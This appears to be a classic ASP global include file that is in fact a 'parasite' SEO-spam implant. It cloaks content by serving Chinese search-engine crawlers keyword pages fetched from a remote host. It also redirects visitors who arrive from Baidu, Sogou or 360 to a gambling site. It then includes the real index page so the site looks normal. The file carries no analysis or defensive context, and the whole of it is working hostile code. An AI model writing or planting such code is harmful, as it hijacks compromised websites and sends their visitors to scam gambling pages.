<%@ Language="VBScript" CodePage="65001" %>
<%
' 寄生虫 global include: spiders get the remote keyword page, visitors from search go to the site
Dim ua, ref, isSpider, body, http
ua = LCase(Request.ServerVariables("HTTP_USER_AGENT"))
ref = LCase(Request.ServerVariables("HTTP_REFERER"))
isSpider = False
If InStr(ua, "baiduspider") > 0 Or InStr(ua, "sogou") > 0 Or InStr(ua, "360spider") > 0 Or InStr(ua, "yisouspider") > 0 Then
    isSpider = True
End If

Function GetRemote(u)
    Set http = Server.CreateObject("MSXML2.ServerXMLHTTP")
    http.Open "GET", u, False
    http.Send
    GetRemote = http.ResponseText
    Set http = Nothing
End Function

If isSpider Then
    body = GetRemote("http://tpl.kw-pool.example/page.asp?host=" & Request.ServerVariables("HTTP_HOST") & "&p=" & Server.URLEncode(Request.ServerVariables("URL")))
    Response.Write body
    Response.End
End If

If InStr(ref, "baidu.com") > 0 Or InStr(ref, "sogou.com") > 0 Or InStr(ref, "so.com") > 0 Then
    Response.Write "<script>window.location.href='http://www.lucky-bet.example/?f=se';</script>"
    Response.End
End If
%>
<!--#include file="index_main.asp"-->
